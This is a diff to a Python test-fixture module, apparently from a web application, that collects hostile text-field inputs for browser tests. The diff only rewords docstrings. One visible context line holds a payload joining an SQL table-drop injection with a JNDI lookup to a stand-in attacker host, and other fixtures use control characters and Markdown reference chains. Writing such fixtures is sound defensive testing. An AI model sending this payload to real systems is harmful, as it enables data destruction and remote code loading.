@@ -1,4 +1,4 @@
-"""What a contributor may write into a text field to make a page do, hide or break something.
+"""Texts that a contributor may write to make a page do, hide or break something.
 
 Scripts set `window.atlasWasAttacked`: a browser test looks for it.
 """
@@ -47,7 +47,7 @@ CODE: Mapping[str, str] = MappingProxyType(
         "query": "'; DROP TABLE practices; -- ${jndi:ldap://evil.example/x}",
     }
 )
-"""On one line each: they may stand in every text field."""
+"""In a single line, so that they fit into every text field."""
 
 ADDRESSES: Mapping[str, str] = MappingProxyType(
     {
@@ -99,7 +99,7 @@ MARKDOWN: Mapping[str, str] = MappingProxyType(
         "references to references": "".join(f"[{n}]: {n + 1}\n" for n in range(500)) + "[0][499]",
     }
 )
-"""For Markdown alone: they need several lines, or mean nothing elsewhere."""
+"""For Markdown only: they need several lines, or have no effect elsewhere."""
 
 _OF_EACH_PLANE = "".join(chr(plane * 0x10000 + 0x1F52) for plane in range(17))
 ODD: Mapping[str, str] = MappingProxyType(
@@ -117,14 +117,14 @@ ODD: Mapping[str, str] = MappingProxyType(
         "controls": "Опыты \x00\x1b[31mкрасно\x1b[0m\x07\x08",
     }
 )
-"""On one line each, as `CODE`."""
+"""In a single line, as `CODE`."""
 
 
 def unbroken(size: int) -> str:
-    """Return so many letters with no place to break a line at."""
+    """Return this many letters without a place to break the line."""
     return "щ" * size
 
 
 def glue_words(size: int) -> str:
-    """Return words of so many letters in all, held together by spaces that do not break."""
+    """Return words with this many letters in total, joined by no-break spaces."""
     return ("широкое\u00a0" * (size // 8 + 1))[:size]
